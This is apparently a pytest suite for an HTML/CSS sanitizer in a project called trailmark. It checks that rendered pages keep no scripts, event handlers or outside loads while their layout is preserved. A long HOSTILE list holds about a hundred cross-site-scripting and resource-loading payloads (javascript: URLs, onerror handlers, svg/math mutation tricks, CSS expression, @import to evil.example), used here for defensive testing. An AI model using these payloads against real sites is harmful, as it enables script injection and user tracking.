"""Hostile pages and style sheets: whatever is in them, what is shown can do nothing, and still looks like the page."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trailmark.datatypes import Response
from trailmark.read.view import page_view as page_view_module
from trailmark.read.view.page_rules import ATTRIBUTES, CUSTOM, ELEMENTS, MORE_ATTRIBUTES
from trailmark.read.view.page_view import PageView, page_links, page_view, view_policy

URL = "http://evil.example/dir/page.html"
HTML = (("Content-Type", "text/html; charset=utf-8"),)
OWN = re.compile(r"/(?:go|asset)\?[0-9]+$")


def view(markup: str, **more: object) -> PageView:
    assets: list[str] = []

    def asset(url: str) -> str:
        assets.append(url)
        return f"/asset?{len(assets)}"

    return page_view(
        Response(URL, 200, HTML, markup.encode("utf-8", "replace")),
        link_href=lambda number, _link: f"/go?{number}",
        asset_href=asset,
        **more,  # type: ignore[arg-type]
    )


class Reader(HTMLParser):
    """Notes every tag and attribute of what is shown."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1][0] == "style":
            self.styles.append(data)


def harmless(text: str) -> Reader:
    """Nothing but what is on the lists; every address is the app's own, in the page, or a picture written out."""
    read = Reader(text)
    for tag, attributes in read.tags:
        assert tag in ELEMENTS or tag == "meta" or CUSTOM.fullmatch(tag), tag
        assert tag not in ("script", "iframe", "frame", "form", "object", "embed", "base", "template", "noscript")
        for name, value in attributes.items():
            if name in ("href", "src", "background"):
                assert OWN.search(value) or value.startswith(("#", "data:image/")), (tag, name, value)
            elif tag == "meta":
                assert attributes == {"charset": "utf-8"}
            elif name == "style":
                loads_nothing_else(value)
            else:
                known = {"target", "rel", "disabled"} | ATTRIBUTES
                assert name in known or MORE_ATTRIBUTES.fullmatch(name), (tag, name)
            assert not name.startswith("on")
        assert attributes.get("target", "_top") == "_top"
    for style in read.styles:
        loads_nothing_else(style)
    return read


def loads_nothing_else(css: str) -> None:
    for address in re.findall(r"url\(([^)]*)\)", css, re.IGNORECASE):
        assert re.fullmatch(r'"(?:/asset\?\d+|#[^"]*|data:image/(?!svg)[^"]*)"', address), address
    assert not re.search(r"expression\s*\(|behaviou?r\s*:|-moz-binding|(?<![\w-])image-set\(", css, re.IGNORECASE), css


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='http://evil.example/x.svg#a'></use></svg>",
    "<svg><image href='http://evil.example/track.png'></image></svg>",
    "<svg><rect fill='url(http://evil.example/a)' stroke='url(//evil.example/b)'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php alert(1) ?><script>1</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:http://127.0.0.1:8765/x'>x</a>",
    "<a href='http://127.0.0.1:8765/demo' ping='http://evil.example/ping' target=_blank>x</a>",
    "<a href='/x' target='_self' download attributionsrc='//evil.example'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<iframe src='http://127.0.0.1:8765/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'><frame src='menu.html' name='<b>menu'></frameset>",
    "<object data='http://evil.example/x.swf'><param name=movie value=x></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<portal src='http://evil.example/'></portal>",
    "<form action='http://127.0.0.1:8765/demo' method=post><input name=do value=make autofocus onfocus=alert(1)><button formaction='//evil.example/'>go</button></form>",
    "<input type=image src='http://evil.example/x.png' formaction='javascript:alert(1)'>",
    "<button form=x onclick=alert(1)>x</button>",
    "<isindex action='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<base href='http://127.0.0.1:8765/' target=_self>",
    "<link rel=import href='http://evil.example/x.html'>",
    "<link rel='prefetch dns-prefetch preconnect' href='//evil.example'>",
    "<link rel=manifest href='//evil.example/m.json'>",
    "<link rel='stylesheet' href='javascript:alert(1)'>",
    "<link rel='stylesheet' href='data:text/css,@import url(//evil.example/x.css)'>",
    "<img srcset='http://evil.example/a.png 1x, javascript:alert(1) 2x' src='a.png'>",
    "<picture><source srcset='http://evil.example/a.webp'><img src='a.png'></picture>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "<video src='http://evil.example/x.mp4' poster='http://evil.example/p.png' onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1) background='javascript:alert(1)'>",
    "<table background='http://evil.example/t.png'><td background='javascript:x'></table>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background:url(//evil.example/a.png)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='w\\69 dth:e\\78 pression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(//evil.example/x.xml#a)'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style></style><script>alert(1)</script><style></style>",
    "<style>a{content:'</style><script>alert(1)</script>'}</style>",
    '<style>a{content:"&lt;/style&gt;&lt;script&gt;"}</style>',
    "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}</style>",
    "<dialog open><form method=dialog></form></dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x-y onclick=alert(1) style='x:url(//evil.example)'>x</x-y>",
    "<a\x00 href='/x'>x</a>",
    "<p id='x' data-trailmark-node='7' data-x='1' aria-label='<script>'>x</p>",
    "<div title='&quot; onmouseover=alert(1) x=&quot;'>x</div>",
    "<div class='\"><script>alert(1)</script>'>x</div>",
    "<p/onclick=alert(1)>x</p>",
    "<o:p onclick=alert(1)>x</o:p>",
    "<bgsound src='javascript:alert(1)'>",
    "<div xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></div>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_can_do_nothing(markup: str) -> None:
    for around in (markup, f"<html><head>{markup}</head><body>{markup}<p>still here</p></body></html>"):
        shown = view(around).html
        harmless(shown)
        assert not re.search(r"<script|<\w[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', shown), re.IGNORECASE)


def test_what_stands_after_a_hostile_piece_is_still_shown() -> None:
    shown = view("<object><p>inside</p></object>tail<script>x</script> and <unknown>this</unknown> too").html
    assert "inside" not in shown
    assert "tail and this too" in shown


@pytest.mark.slow
@settings(deadline=None)
@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.lists(st.integers(0, 200), max_size=4))
def test_hostile_pieces_cut_and_mixed(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(piece[cut % (len(piece) + 1) :] for piece, cut in zip(pieces, [*cuts, 0, 0, 0, 0], strict=False))
    read = harmless(view(text).html)
    assert "script" not in dict(read.tags)


@pytest.mark.slow
@settings(deadline=None)
@given(st.text(st.sampled_from("<>/='\" &;!-[]abonsvgcriptyle\x00\n"), max_size=80))
def test_noise_can_do_nothing(text: str) -> None:
    read = harmless(view(text).html)
    assert "script" not in dict(read.tags)


@settings(deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_shown_or_left_out(body: bytes) -> None:
    shown = page_view(Response(URL, 200, HTML, body), link_href=lambda n, _: f"/go?{n}", asset_href=lambda _: None)
    read = harmless(shown.html)
    assert "script" not in dict(read.tags)


def test_it_looks_like_itself() -> None:
    shown = view(
        "<!DOCTYPE html><html lang=de><head><title>T &amp; U</title><link rel=stylesheet href=a.css media=screen>"
        "<style>.x > p { color: red; background: url( 'b.png' ) } @media (width<600px) { p { margin: 0 } }</style></head>"
        "<body class=x bgcolor=#fff><table cellpadding=3><tr><td colspan=2 style='color:#123'>A&nbsp;&lt;b</td></tr></table>"
        "<img src=c.png alt=C width=10><svg viewBox='0 0 1 1'><path d='M0 0' fill='url(#g)'/></svg></body></html>"
    )
    read = harmless(shown.html)
    tags = dict(read.tags)
    assert shown.html.startswith("<!DOCTYPE html>")
    assert tags["html"]["lang"] == "de"
    assert tags["link"] == {"media": "screen", "rel": "stylesheet", "href": "/asset?1"}
    assert tags["td"] == {"colspan": "2", "style": "color:#123"}
    assert tags["img"]["src"] == "/asset?3"
    assert tags["path"]["fill"] == "url(#g)"
    assert ".x > p { color: red" in read.styles[0]
    assert 'url("/asset?2")' in read.styles[0]
    assert "(width<600px)" in read.styles[0]
    assert "A\xa0&lt;b" in shown.html


def test_old_pages_are_laid_out_the_old_way() -> None:
    assert not view("<html><body>x").html.startswith("<!DOCTYPE")
    assert not view('<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><p>x').html.startswith("<!DOCTYPE")
    strict = '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd"><p>x'
    assert view(strict).html.startswith("<!DOCTYPE html>")


def test_links_are_numbered_resolved_and_lead_to_the_app() -> None:
    shown = view(
        "<base href='http://other.example/b/'><a href='x?a=1#f'>An <b>X</b></a><a href='#top'>Top</a><a href='mailto:a@b'>M</a>"
        "<a href='//third.example'><img src=i.png alt='Logo'></a><map><area href=/m alt=Map></map><a name=n>N</a>"
        "<iframe src='inner.html' name=inner></iframe>"
    )
    assert [(link.url, link.anchor) for link in shown.links] == [
        ("http://other.example/b/x?a=1", "An X"),
        ("http://third.example/", "Logo"),
        ("http://other.example/m", "Map"),
        ("http://other.example/b/inner.html", "inner"),
    ]
    assert re.findall(r'href="(/go\?\d)" target="_top"', shown.html) == ["/go?0", "/go?1", "/go?2", "/go?3"]
    assert 'href="#top"' in shown.html
    assert "mailto" not in shown.html


def test_numbers_of_links_do_not_depend_on_how_they_are_shown() -> None:
    response = Response(URL, 200, HTML, b"<a href=a>1</a><a href=javascript:x>2</a><frame src=b><a href=c>3</a>")
    links = page_links(response)
    hidden = page_view(response, link_href=lambda _n, _l: None, asset_href=lambda _u: None)
    assert hidden.links == links
    assert "href" not in hidden.html


def test_notes_and_numbers_are_added() -> None:
    shown = view("<p><a href=x class=mine>X</a>", link_note=lambda _n, _l: {"title": '0.8 "good"'}, number_nodes=True)
    read = harmless(shown.html)
    assert dict(read.tags)["a"]["title"] == '0.8 "good"'
    assert [attributes["data-trailmark-node"] for tag, attributes in read.tags if tag != "meta"] == ["0", "1", "2", "3"]


def test_a_page_of_any_depth_is_shown() -> None:
    read = harmless(view("<div>" * 5000 + "deep").html)
    assert "div" in dict(read.tags)


def test_the_frame_may_load_from_the_app_alone() -> None:
    policy = view_policy("http://127.0.0.1:8765")
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "sandbox allow-top-navigation-by-user-activation" in policy
    with_script = view_policy("http://127.0.0.1:8765", script="let a = 1")
    assert "script-src 'sha256-" in with_script
    assert "allow-same-origin" not in with_script
    assert "sandbox allow-scripts" in with_script


# --- work that grows with the page alone -----------------------------------------------------------------------------


def seconds(markup: str) -> float:
    return min(_seconds(markup) for _ in range(3))


def _seconds(markup: str) -> float:
    began = time.process_time()
    view(markup)
    return time.process_time() - began


GROWING: dict[str, Callable[[int], str]] = {
    "links around links": lambda size: "<a href=x><div>" * min(size, 1000) + "word " * size * 10,
    "attributes": lambda size: "<p>x</p><p " + " ".join(f"data-a{number}" for number in range(size // 2)) + ">x",
    "candidates": lambda size: "<img src=a srcset='" + "a.png 1x, " * size * 10 + "'>",
    "styles": lambda size: "<p style='a:url(x)'>" * size,
    "pictures": lambda size: "".join(f"<img src={number}.png>" for number in range(size)),
    "depth": lambda size: "<div>" * size,
    "drawings": lambda size: "<svg><g fill='url(x'>" * size,
    "comments": lambda size: "<a href=x>" + "<!-- x -->y" * size,
    "bases": lambda size: "<base href=x>" * size,
    "refreshes": lambda size: "<meta http-equiv=refresh content='0;url=x'>" * size,
    "tags that are none": lambda size: "<" * size * 10,
    "entities": lambda size: "&amp" * size * 5,
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", GROWING)
def test_four_times_the_page_is_no_more_than_four_times_the_work(kind: str) -> None:
    make = GROWING[kind]
    assert seconds(make(8000)) < 12 * seconds(make(2000)) + 0.1


def test_a_tag_with_too_many_attributes_loses_most_and_the_page_is_shown() -> None:
    shown = view("<p " + " ".join(f"data-attribute-{number}=1" for number in range(60_000)) + ">x</p><h1>after</h1>")
    assert "<h1>after</h1>" in shown.html
    assert len(dict(harmless(shown.html).tags)["p"]) <= page_view_module.MOST_ATTRIBUTES


def test_a_page_with_a_wide_tag_that_hides_its_end_is_not_shown_and_a_sentence_says_why() -> None:
    shown = view("<p " + " ".join(f"data-a{number}='>'" for number in range(10_000)) + ">x</p>")
    assert "attributes" in shown.html
    assert "data-a" not in shown.html
    assert shown.links == ()


@pytest.mark.parametrize("body", ["", " \n", "<!-- nothing -->"])
def test_a_page_with_nothing_in_it_says_so(body: str) -> None:
    assert "The page is empty" in view(body).html


@pytest.mark.slow
def test_attributes_links_addresses_and_styles_are_counted() -> None:
    wide = view("<p " + " ".join(f"data-a{number}" for number in range(1000)) + ">x</p>")
    assert len(dict(harmless(wide.html).tags)["p"]) == page_view_module.MOST_ATTRIBUTES
    many = view("<a href=x>" * (page_view_module.MOST_LINKS + 5))
    assert len(many.links) == page_view_module.MOST_LINKS
    pictures = view("".join(f"<img src={number}>" for number in range(page_view_module.MOST_ADDRESSES + 5)))
    assert pictures.html.count("src=") == page_view_module.MOST_ADDRESSES
    styles = view("<style>" + "a" * 1_500_000 + "</style><style>" + "b" * 1_500_000 + "</style>")
    assert "aaa" in styles.html
    assert "bbb" not in styles.html


def test_links_within_links_have_the_text_that_is_in_them() -> None:
    shown = view(
        "<a href=1> one <div><a href=2>two<b> three</b><img alt=no></a></div> four</a><a href=3> <img alt='a  b'></a>"
    )
    assert [(link.url[-1], link.anchor) for link in shown.links] == [
        ("1", "one two three four"),
        ("2", "two three"),
        ("3", "a b"),
    ]
